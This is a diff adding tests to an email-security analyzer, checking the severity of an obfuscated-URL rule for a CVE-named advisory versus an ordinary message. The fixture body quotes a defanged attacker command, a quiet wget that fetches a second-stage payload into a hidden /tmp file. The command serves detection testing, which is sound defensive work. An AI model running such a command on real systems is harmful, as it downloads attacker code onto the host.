@@ -502,3 +502,25 @@ describe("email.link.text_href_mismatch: the sender's short domain shown over it
     expect(expectFires(await mail('Travel Desk <desk@travel-desk.example>'), ID).severity).toBe('high');
   });
 });
+
+describe('email.link.obfuscated_url in a security advisory', () => {
+  const ID = 'email.link.obfuscated_url';
+  const advisory = (subject: string) =>
+    analyzeEmail(
+      eml({
+        from: 'Research <advisories@research.example>',
+        to: 'list@lists.example',
+        subject,
+        text: 'We have observed exploitation dropping a web shell and fetching a second stage with:\n\n  wget -q -O /tmp/.x hxxp://185.0.2[.]44/k',
+      }),
+      { scorer: null },
+    );
+  it('is info when the advisory names its CVE', async () => {
+    expect(expectFires(await advisory('[HSA-2026-014] Pagefold CMS RCE (CVE-2026-31877)'), ID).severity).toBe(
+      'info',
+    );
+  });
+  it('stays medium in a message that is no advisory', async () => {
+    expect(expectFires(await advisory('Your files'), ID).severity).toBe('medium');
+  });
+});
